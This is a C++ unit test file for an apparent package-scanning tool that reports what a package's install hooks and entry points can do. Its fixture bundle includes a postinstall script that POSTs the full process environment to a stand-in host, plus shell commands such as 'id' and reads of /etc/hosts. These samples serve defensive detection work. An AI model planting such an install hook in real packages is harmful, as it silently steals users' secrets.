#include "report/surface.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "report/surface_text.h"

namespace assay {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

constexpr std::string_view package_text = R"(==> package.json
{"name": "demo", "version": "1.0.0", "main": "index.js", "bin": {"demo": "cli.js"},
 "scripts": {"postinstall": "node setup.js && curl https://count.example.test/x"}}
==> index.js
module.exports = require('./lib/add');
==> lib/add.js
module.exports = (a, b) => a + b;
exports.load = name => require('fs').readFileSync('/etc/hosts');
==> cli.js
require('./lib/add'); require('./lib/run')
==> lib/run.js
require('child_process').execSync('uname -a');
==> setup.js
const https = require('https');
const request = https.request({host: 'collect.example.test', path: '/', method: 'POST'});
request.write(JSON.stringify(process.env));
request.end();
==> unused.js
require('child_process').exec('id');
)";

ReportedSurface surface_of(std::string_view bundle) {
  const Package package = package_from_bundle(bundle);
  return build_surface(collect_facts(package));
}

const SurfaceEntry& entry(const ReportedSurface& surface, std::string_view name) {
  for (const SurfaceEntry& each : surface.entries) {
    if (each.name == name) return each;
  }
  ADD_FAILURE() << "no entry " << name;
  return surface.entries.front();
}

std::vector<std::string> capabilities(const SurfaceEntry& entry) {
  std::vector<std::string> names;
  for (const SurfaceCapability& each : entry.capabilities)
    names.emplace_back(to_string(each.capability));
  return names;
}

TEST(Surface, TheMostAutomaticComesFirst) {
  const ReportedSurface surface = surface_of(package_text);
  ASSERT_EQ(surface.entries.size(), 3u);
  EXPECT_EQ(surface.entries[0].name, "postinstall");
  EXPECT_EQ(surface.entries[1].name, "main");
  EXPECT_EQ(surface.entries[2].name, "bin demo");
}

TEST(Surface, AnEntryCanDoWhatItsCommandAndItsFilesDo) {
  const ReportedSurface surface = surface_of(package_text);
  const SurfaceEntry& hook = entry(surface, "postinstall");
  EXPECT_THAT(capabilities(hook),
              testing::IsSupersetOf({"sends data", "fetches", "reads environment"}));
  EXPECT_EQ(hook.place.path, "package.json");
  EXPECT_THAT(hook.files, ElementsAre("setup.js"));
  const SurfaceAct& send = hook.capabilities.front().acts.front();
  EXPECT_THAT(send.target, HasSubstr("collect[.]example[.]test"));
  EXPECT_THAT(send.carries, testing::Contains("the environment"));
  EXPECT_EQ(send.place.path, "setup.js");
}

TEST(Surface, ImportsAreFollowed) {
  const ReportedSurface surface = surface_of(package_text);
  EXPECT_EQ(entry(surface, "main").reached_count, 2u);
  EXPECT_THAT(capabilities(entry(surface, "main")), Not(testing::Contains("runs programs")));
  EXPECT_EQ(entry(surface, "bin demo").reached_count, 3u);
  EXPECT_THAT(capabilities(entry(surface, "bin demo")), testing::Contains("runs programs"));
}

TEST(Surface, WhatNothingLeadsToIsCounted) {
  const ReportedSurface surface = surface_of(package_text);
  EXPECT_EQ(surface.unreached_files, 1u);
  EXPECT_GT(surface.unreached_actions, 0u);
}

TEST(Surface, ModulesThatCanBeImportedByNameAreEntriesToo) {
  const ReportedSurface surface = surface_of(R"(==> PKG-INFO
Metadata-Version: 2.1
Name: adder
Version: 1
==> setup.py
from setuptools import setup
setup(name="adder", packages=["adder"])
==> adder/__init__.py
x = 1
==> adder/other.py
import os
os.system('id')
)");
  EXPECT_THAT(capabilities(entry(surface, "a module of adder")),
              testing::Contains("runs programs"));
}

TEST(Surface, LinksInACircleEnd) {
  const ReportedSurface surface = surface_of(R"(==> package.json
{"main": "a.js"}
==> a.js
require('./b')
==> b.js
require('./a')
)");
  EXPECT_EQ(surface.entries[0].reached_count, 2u);
}

TEST(Surface, BundledDependenciesAreListed) {
  const ReportedSurface surface = surface_of(R"(==> package.json
{"bundledDependencies": ["a"]}
==> node_modules/a/package.json
{}
==> node_modules/@s/b/index.js
1
)");
  EXPECT_THAT(surface.bundled, ElementsAre("node_modules/@s/b", "node_modules/a"));
}

TEST(Surface, ManyActionsAreCutAndSaidToBe) {
  Package package = package_from_bundle("==> package.json\n{\"main\": \"a.js\"}\n==> a.js\n1\n");
  Facts facts = collect_facts(package);
  for (std::uint32_t i = 0; i < 300; ++i) {
    Action action;
    action.act = Act::run_shell;
    action.target = "program-" + std::to_string(i);
    action.where = {0, -1, 0, 1};
    facts.actions.push_back(action);
  }
  const ReportedSurface surface = build_surface(facts);
  const SurfaceCapability& runs = surface.entries[0].capabilities[0];
  EXPECT_EQ(runs.count, 300u);
  EXPECT_EQ(runs.acts.size(), 50u);
}

TEST(SurfaceText, FitsTheWidthAndHidesNothingBehindColours) {
  const std::string text =
      surface_text(surface_of(package_text), {.color = false, .quiet = false, .width = 80});
  EXPECT_THAT(text, HasSubstr("When the package is installed or built\n    postinstall"));
  EXPECT_THAT(text, HasSubstr("sends data"));
  EXPECT_THAT(text, HasSubstr("Nothing leads to 1 file more of code"));
  EXPECT_THAT(text, Not(HasSubstr("\033")));
  EXPECT_THAT(text, Not(HasSubstr("https://")));
  EXPECT_THAT(surface_text(surface_of(package_text), {.color = true, .quiet = false, .width = 80}),
              HasSubstr("\033[1mpostinstall"));
}

TEST(SurfaceText, TextOfThePackageIsEscaped) {
  const std::string text =
      surface_text(surface_of("==> package.json\n{\"scripts\": {\"postinstall\": \"echo "
                              "\\u001b[31m\\u202e; curl https://x.example.test\"}}\n"),
                   {});
  EXPECT_THAT(text, Not(HasSubstr("\033")));
  EXPECT_THAT(text, Not(HasSubstr("\xE2\x80\xAE")));
  EXPECT_THAT(text, Not(HasSubstr("https://")));
}

TEST(SurfaceText, APackageInWhichNothingRunsSaysSo) {
  EXPECT_EQ(surface_text({}, {}), "  nothing in it runs uncalled\n");
}

}  // namespace
}  // namespace assay
